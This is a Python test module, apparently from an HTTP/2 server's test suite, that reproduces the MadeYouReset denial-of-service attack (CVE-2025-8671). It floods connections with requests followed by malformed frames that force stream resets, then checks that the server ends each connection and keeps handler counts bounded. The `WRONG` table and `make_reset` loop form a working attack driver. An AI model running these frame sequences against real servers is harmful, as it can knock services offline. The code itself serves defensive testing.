# SPDX-License-Identifier: MIT
"""Calls whose client makes the server end them, as fast as they are taken (MadeYouReset, CVE-2025-8671).

Bounds: such calls count as cancelled, so the limit for these ends each connection; no handler remains.
"""

from concurrent.futures import ThreadPoolExecutor

import http2
from program import MIB

PEAK = 32 * MIB
LIMIT = 100
OPTIONS = {"max_concurrent_calls_per_connection": 100, "max_cancelled_calls_per_second": LIMIT}
MOST_CANCELLED = 2 * LIMIT + 12 * LIMIT
"""What may be cancelled at once, and in the seconds that the connection is slowed down."""

WRONG = {
    "WINDOW_UPDATE of 0": lambda stream: http2.window_update(stream, 0),
    "a window that is too large": lambda stream: http2.window_update(stream, 0x7FFFFFFF),
    "DATA beyond content-length": lambda stream: http2.data(stream, bytes(20), ends=False),
    "PRIORITY on itself": lambda stream: http2.frame(
        http2.PRIORITY, stream.to_bytes(4, "big") + b"\0", stream=stream
    ),
}


def make_reset(peer, name, rounds):
    # A stream's handler runs before its first message.
    block = http2.request("unread", *([("content-length", "10")] if "content-length" in name else []))
    for round in range(1, rounds + 1):
        ids = range(200 * round - 199, 200 * round, 2)
        # Once SETTINGS are acknowledged, the calls before them are with their handlers.
        peer.send(b"".join(http2.headers(id, block) for id in ids) + http2.settings())
        peer.wait(lambda round=round: peer.acks[http2.SETTINGS] > round)
        if peer.is_closed or not peer.send(b"".join(WRONG[name](id) for id in ids)):
            break


def attack(target):
    count = target.count(20_000, 3000)
    peers = {name: target.connect_http2() for name in WRONG}
    # Each is slowed down by itself.
    with ThreadPoolExecutor(len(peers)) as threads:
        for done in [threads.submit(make_reset, peer, name, count // 100) for name, peer in peers.items()]:
            done.result()
    for name, peer in peers.items():
        target.expect_goaway(peer, http2.ENHANCE_YOUR_CALM, f"{name} ends no connection")
    report = target.expect_report(lambda now: now["running_handlers"] == 0, "handlers remain")
    started = report["started_handlers"]
    target.expect(started >= len(WRONG) * LIMIT, f"only {started} handlers were started")
    target.expect(started <= len(WRONG) * MOST_CANCELLED, f"{started} handlers were started")
    disconnected = sum(peer.is_closed for peer in peers.values())
    target.note(f"{started} of {len(WRONG) * count} calls ran, {disconnected} disconnected")
